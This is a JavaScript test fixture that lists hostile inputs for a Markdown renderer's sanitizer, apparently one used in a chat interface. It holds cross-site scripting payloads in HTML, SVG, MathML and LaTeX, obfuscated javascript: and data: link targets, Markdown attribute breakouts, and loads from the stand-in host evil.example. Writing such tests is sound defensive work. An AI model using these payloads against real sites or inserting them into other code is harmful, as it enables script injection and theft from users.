// Texts that try to run code, to load something or to leave their element: HTML, link targets in many spellings, and breaks
// out of Markdown's own marks. An effect of any of them sets `owned`, opens a dialog or requests evil.example.

const RUN = "owned=1";

/** HTML that would run code or load something if it were markup. */
const HTML = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script src="//evil.example/x.js"></script>`, `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script type="module">import "https://evil.example/x.js"</script>`, `<script/x>${RUN}</script>`,
  `</script><script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `<img src="x" onerror="${RUN}"/>`, `<IMG SRC=x ONERROR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`, `<img src=x onerror\n=${RUN}>`, `<img src=https://evil.example/x.png>`, `<img srcset="https://evil.example/x 1x">`,
  `<img src=x:x onerror=alert(1)//`, `<image href="https://evil.example/x" onerror=${RUN}>`, `<picture><source srcset=https://evil.example/x></picture>`,
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${RUN}></svg>`, `<svg><use href="data:image/svg+xml,x#y"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`, `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`, `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src="https://evil.example/"></iframe>`,
  `<object data="javascript:${RUN}"></object>`, `<object data="https://evil.example/x.swf"></object>`, `<embed src="https://evil.example/x.swf">`,
  `<embed src="javascript:${RUN}">`, `<applet code="x" codebase="https://evil.example/">`, `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, `<meta http-equiv="Set-Cookie" content="a=b">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`, `<link rel=preload as=script href=https://evil.example/x.js>`, `<link rel=prefetch href=//evil.example/>`,
  `<style>@import "https://evil.example/x.css";</style>`, `<style>*{background:url(https://evil.example/x)}</style>`, `<style onload=${RUN}></style>`,
  `<body onload=${RUN}>`, `<body background="https://evil.example/x">`, `<html onmouseover=${RUN}>`, `<frameset onload=${RUN}>`,
  `<form action="https://evil.example/"><input name=q><button>x</button></form>`, `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<input autofocus onfocus=${RUN}>`, `<textarea autofocus onfocus=${RUN}></textarea>`, `<select autofocus onfocus=${RUN}></select>`, `<button popovertarget=x onclick=${RUN}>x</button>`,
  `<isindex type=image src=1 onerror=${RUN}>`, `<keygen autofocus onfocus=${RUN}>`, `<video src=x onerror=${RUN}></video>`, `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`, `<video poster=https://evil.example/x>`, `<track src=https://evil.example/x>`, `<marquee onstart=${RUN}>x</marquee>`,
  `<details open ontoggle=${RUN}>x</details>`, `<details/open/ontoggle=${RUN}>`, `<details>\n<summary onclick=${RUN}>x</summary>\n\ny\n\n</details>`,
  `<details>\n<summary><img src=x onerror=${RUN}></summary>\n\n<script>${RUN}</script>\n\n</details>`, `<div style="background:url(https://evil.example/x)">x</div>`,
  `<div onmouseover=${RUN} style="position:fixed;inset:0">x</div>`, `<p id=owned>x</p>`, `<a id=owned name=owned href=x>x</a>`, `<form id=document name=body></form>`,
  `<a href="javascript:${RUN}">x</a>`, `<a href=javascript:${RUN}>x`, `<a href="https://evil.example/" ping="https://evil.example/p">x</a>`,
  `<area href="javascript:${RUN}">`, `<map><area onclick=${RUN}></map>`, `<dialog open onclose=${RUN}>x</dialog>`, `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`, `<plaintext><img src=x onerror=${RUN}>`, `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<title></title><img src=x onerror=${RUN}>`, `<textarea></textarea><img src=x onerror=${RUN}>`, `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`, `<!--<img src=x onerror=${RUN}>-->`, `<!--><img src=x onerror=${RUN}>-->`, `<!---!><img src=x onerror=${RUN}>`,
  `<!-- --!><script>${RUN}</script>`, `<!doctype html><script>${RUN}</script>`, `<x onclick=${RUN} tabindex=0 autofocus onfocus=${RUN}>x</x>`, `<custom-x onpointerenter=${RUN}>x</custom-x>`,
  `<u onclick=${RUN}>x</u>`, `<sub style=x onmouseover=${RUN}>x</sub>`, `<kbd/onclick=${RUN}>x</kbd>`, `<mark onanimationend=${RUN} style="animation:x 1s">x</mark>`,
  `<br onload=${RUN}>`, `<sup\nonclick=${RUN}\n>x</sup>`, `<u><script>${RUN}</script></u>`, `<sub><img src=x onerror=${RUN}></sub>`, `<mark><a href=javascript:${RUN}>x</a></mark>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;img src=x onerror=${RUN}&#62;`, `&#x3c;svg onload=${RUN}&#x3e;`, `＜script＞${RUN}＜/script＞`, `\u0000<script>${RUN}</script>`,
  `<\u0000script>${RUN}</script>`, `\uFEFF<img src=x onerror=${RUN}>`, `\u202E<script>${RUN}</script>`, `<tool_call>{"tool":"x"}</tool_call><img src=x onerror=${RUN}>`,
  `<portal src="https://evil.example/">`, `<fencedframe src=https://evil.example/>`, `<object type="text/html" data="data:text/html,<script>parent.${RUN}</script>"></object>`,
];

/** Targets that a link must not have. */
const TARGETS = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `\u0001javascript:${RUN}`, `java\tscript:${RUN}`, `java&#10;script:${RUN}`, `&#106;avascript:${RUN}`, `&#x6A;avascript:${RUN}`,
  `javascript&colon;${RUN}`, `javascript&#58;${RUN}`, `javascript%3A${RUN}`, `%6Aavascript:${RUN}`, `\\javascript:${RUN}`, `javascript\\:${RUN}`, `javascript://evil.example/%0A${RUN}`, `jav&Tab;ascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`, "data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+", `DATA:image/svg+xml,<svg/onload=${RUN}>`, `vbscript:${RUN}`, `blob:https://evil.example/x`, "file:///etc/passwd",
  "filesystem:https://evil.example/x", "view-source:https://evil.example/", "//evil.example/x", "/api/conversations", "about:blank#x", "ws://evil.example/",
];

/** Places of Markdown in which a target is written. */
const CARRIERS = [
  (target) => `[x](${target})`, (target) => `[x](<${target}>)`, (target) => `![x](${target})`, (target) => `<${target}>`, (target) => `[x][r]\n\n[r]: ${target}`,
  (target) => `[x](https://a.example/ "${target}")`, (target) => `[![x](${target})](${target})`, (target) => `| [x](${target}) |\n|---|\n| ![y](${target}) |`, (target) => `a[^1]\n\n[^1]: [x](${target})`,
  (target) => `- [x] [y](${target})\n- ${target}`, (target) => `> **[x](${target})**`,
];

/** Breaks out of the attributes and the marks that Markdown itself makes. */
const BREAKS = [
  `[x](https://a.example/" onmouseover="${RUN})`, `[x](https://a.example/ "t" onmouseover="${RUN}")`, `[x](https://a.example/ '" onclick=${RUN} "')`, `<https://a.example/"onclick=${RUN}>`,
  `https://a.example/"onmouseover="${RUN}`, `www.a.example/'><script>${RUN}</script>`, `![" onerror="${RUN}](https://a.example/x.png)`, `![x](https://a.example/x.png" onerror="${RUN})`,
  "```\" onclick=\"owned=1\nx\n```", "```html\n<script>owned=1</script>\n```", "```<img src=x onerror=owned=1>\nx\n```", "`<img src=x onerror=owned=1>`", "```mermaid\ngraph TD; A-->B; click A \"javascript:owned=1\"\n```",
  `$\\href{javascript:${RUN}}{x}$`, `$$\\url{javascript:${RUN}}$$`, `$\\html{<img src=x onerror=${RUN}>}$`, `$\\class{" onclick="${RUN}}{x}$`, `$\\style{background:url(https://evil.example/x)}{x}$`,
  `$\\includegraphics{https://evil.example/x.png}$`, `$</math><img src=x onerror=${RUN}>$`, `\\(\\text{<script>${RUN}</script>}\\)`, `$\\def\\x{\\x}\\x$`, `[1](javascript:${RUN})`, `[1]: javascript:${RUN}\n\n[1]`,
  `[^<img src=x onerror=${RUN}>]\n\n[^<img src=x onerror=${RUN}>]: n`, `# <img src=x onerror=${RUN}> {onclick=${RUN}}`, `[a"onclick="${RUN}.md:1](x) a"onclick=${RUN}.md:1`, "`a\" onfocus=\"owned=1.md:3`",
];

/** All texts. */
export const HOSTILE_TEXTS = [...HTML, ...BREAKS, ...TARGETS.flatMap((target) => CARRIERS.map((carry) => carry(target)))];
